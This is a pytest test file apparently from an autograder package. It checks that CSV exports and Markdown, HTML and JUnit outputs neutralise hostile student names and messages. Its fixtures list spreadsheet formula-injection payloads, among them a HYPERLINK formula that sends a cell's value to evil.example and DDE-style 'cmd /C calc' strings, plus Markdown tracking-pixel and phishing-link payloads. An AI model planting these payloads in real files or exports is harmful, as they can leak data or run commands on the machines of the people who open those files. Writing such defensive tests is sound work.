"""Exports are inert wherever they are opened: no spreadsheet formula, no Markdown link or image, no markup.

Students choose their folder names and write the text of their errors; an LMS roster carries names
students set. Every CSV the package writes (the gradebook, the csv, Canvas and Moodle exports) must
open in a spreadsheet as data, and every rendered output (the GitHub Actions job summary, the
Markdown and HTML feedback, JUnit XML) must show student text as text.
"""

import csv
import dataclasses
import io
import json
import re
import xml.etree.ElementTree as ET

import mistune
import pytest
from markdown_it import MarkdownIt

from autograder.cli import main
from autograder.formats.github_actions import job_summary
from autograder.formats.gradebook import gradebook_csv
from autograder.formats.json_results import results_json
from autograder.formats.junit import junit_xml
from autograder.formats.spreadsheet_csv import csv_field, formula_like
from autograder.grading.one_submission import ungraded
from autograder.reports.feedback import feedback_page, page_text
from autograder.reports.lms_export import export_text
from autograder.results import SubmissionResult, TestResult

FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\uff1d1+1",
]
"""Cell texts a spreadsheet would run (a leading tab, carriage return, spaces or a full-width = included)."""

MARKDOWN = [
    "![tracker](https://evil.example/pixel.png)",
    "[grades](https://evil.example/login)",
    '<img src="https://evil.example/x.png">',
    "see https://evil.example/z and www.evil.example",
    "| forged | cell |",
]
"""Student text that Markdown would render as an image, a link, HTML, an autolink or a table cell."""


def a_result(student: str, note: str = "") -> SubmissionResult:
    """A real rnn result (every test failed, written answers pending) of ``student``, with ``note``."""
    result = ungraded(f"submitted/{student}/rnn", "rnn", note or "not graded")
    return dataclasses.replace(result, student=student)


def spreadsheet_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def assert_inert(text: str) -> None:
    """No cell of ``text`` would be run by a spreadsheet; each neutralised one is quoted in the file."""
    for cell in spreadsheet_cells(text):
        assert not formula_like(cell), cell
    for quoted in re.findall(r"(?:^|,)(\"'[^\"]*)", text, re.MULTILINE):
        assert quoted.startswith("\"'")


@pytest.fixture()
def hostile_class():
    return [a_result(student, note=f"note {student}") for student in FORMULAS] + [a_result("ada")]


def test_every_gradebook_cell_is_data(hostile_class):
    """Does the gradebook CSV keep every formula-like student name inert, and read back with a quote in front?"""
    text = gradebook_csv(hostile_class)
    assert_inert(text)
    submissions = [row["submission"] for row in csv.DictReader(io.StringIO(text))]
    assert "'submitted/=HYPERLINK" not in submissions  # a path starting with "s" needs nothing
    assert csv_field("=1+1") == '"\'=1+1"'


@pytest.mark.parametrize("target", ["csv", "canvas", "moodle"])
def test_every_export_cell_is_data(hostile_class, target):
    """Are the csv, Canvas and Moodle exports of students named like formulas inert in a spreadsheet?"""
    text, _ = export_text(hostile_class, to=target)
    assert_inert(text)
    students = {cell.lstrip("'") for cell in spreadsheet_cells(text)}
    assert {name.replace("\r", "\n") for name in FORMULAS} & students  # the names are still there, as text


@pytest.mark.parametrize("target", ["canvas", "moodle"])
def test_a_roster_carrying_formulas_is_exported_inert(tmp_path, target):
    """Does a roster whose names a student set to formulas give an export whose cells are all data?"""
    roster = tmp_path / "roster.csv"
    match = "SIS Login ID" if target == "canvas" else "Username"
    roster.write_text(
        f"Student,ID,SIS User ID,{match},Section,First name,Email address\n"
        f'"=HYPERLINK(""https://evil.example"")",7,@x,ada,-A,+B,=x@y\n'
    )
    text, missing = export_text([a_result("ada")], to=target, roster=roster)
    assert missing == []
    assert_inert(text)


def test_scores_stay_numbers():
    """Is a plain number, even a negative one, left as it is, so that a spreadsheet sums it?"""
    assert [csv_field(v) for v in ("40", "0.5", "-0.5", "1e-3")] == ["40", "0.5", "-0.5", "1e-3"]
    assert csv_field("-0.5+cmd") == '"\'-0.5+cmd"'


def test_the_command_line_exports_are_inert(hostile_class, tmp_path, capsys):
    """Do `autograder export` and `autograder merge --gradebook` write inert files from hostile results?"""
    results = tmp_path / "results.json"
    results.write_text(results_json(hostile_class))
    for target in ("csv", "canvas", "moodle"):
        assert (
            main(["export", str(results), "--to", target, "--output", str(tmp_path / f"{target}.csv")]) == 0
        )
        assert_inert((tmp_path / f"{target}.csv").read_text())
    assert (
        main(["merge", str(results), "--format", "json", "--gradebook", str(tmp_path / "gradebook.csv")]) == 0
    )
    assert_inert((tmp_path / "gradebook.csv").read_text())
    capsys.readouterr()


def rendered(markdown: str) -> list[str]:
    """The HTML two Markdown renderers make of ``markdown`` (tables and bare-URL links on)."""
    gfm = mistune.create_markdown(plugins=["table", "url", "strikethrough"])
    return [gfm(markdown), MarkdownIt("commonmark").enable("table").render(markdown)]


def hostile_markdown_result() -> SubmissionResult:
    text = " ".join(MARKDOWN)
    failed = TestResult(text, "sigmoid", 0.0, 3.0, "failed", text, cell="test_sigmoid")
    return SubmissionResult(f"submitted/{text}/rnn", text, (failed,), notes=(text,), student=text)


def test_the_renderers_would_render_the_raw_text():
    """Is the hostile text really hostile: do the renderers make links and images of it unescaped?"""
    for html in rendered("- " + " ".join(MARKDOWN)):
        assert "<a " in html and "<img" in html


def test_the_job_summary_renders_no_link_image_or_markup():
    """Does the Actions job summary show a note, a test name and an assignment full of Markdown as plain text?"""
    summary = job_summary(hostile_markdown_result())
    for html in rendered(summary):
        assert "<a " not in html and "<img" not in html and "evil.example" in html
        assert html.count("<tr>") == 2 and html.count("<td") == 3  # the one test, three cells: none forged
        assert "<script" not in html


def test_the_markdown_feedback_renders_no_link_image_or_markup():
    """Does a student's Markdown feedback page show their hostile name and messages as text?"""
    page = page_text(feedback_page(hostile_markdown_result()), format="markdown")
    for html in rendered(page):
        assert "<a " not in html and "<img" not in html


def test_html_and_junit_escape_student_text():
    """Do the HTML feedback page and JUnit XML carry the hostile text escaped, as text?"""
    result = hostile_markdown_result()
    html = page_text(feedback_page(result), format="html")
    assert "<img" not in html and "&lt;img src=&#34;https://evil.example/x.png&#34;&gt;" in html
    suite = ET.fromstring(junit_xml([result])).find("testsuite")
    assert suite.get("name") == result.submission  # an attribute, escaped by the XML writer


def test_the_job_summary_of_a_forged_result_keeps_its_html_blocks_closed():
    """Can a test name with blank lines end the raw HTML block of its details and render Markdown after it?"""
    name = "x\n\n![tracker](https://evil.example/pixel.png)"
    result = SubmissionResult("s", "rnn", (TestResult(name, "f", 0.0, 1.0, "failed", "out"),))
    for html in rendered(job_summary(result)):
        assert "<img" not in html


def test_the_json_results_of_the_hostile_text_read_back(tmp_path):
    """Are the results themselves untouched (the escaping belongs to the outputs)?"""
    result = hostile_markdown_result()
    assert json.loads(results_json([result]))["notes"] == [" ".join(MARKDOWN)]
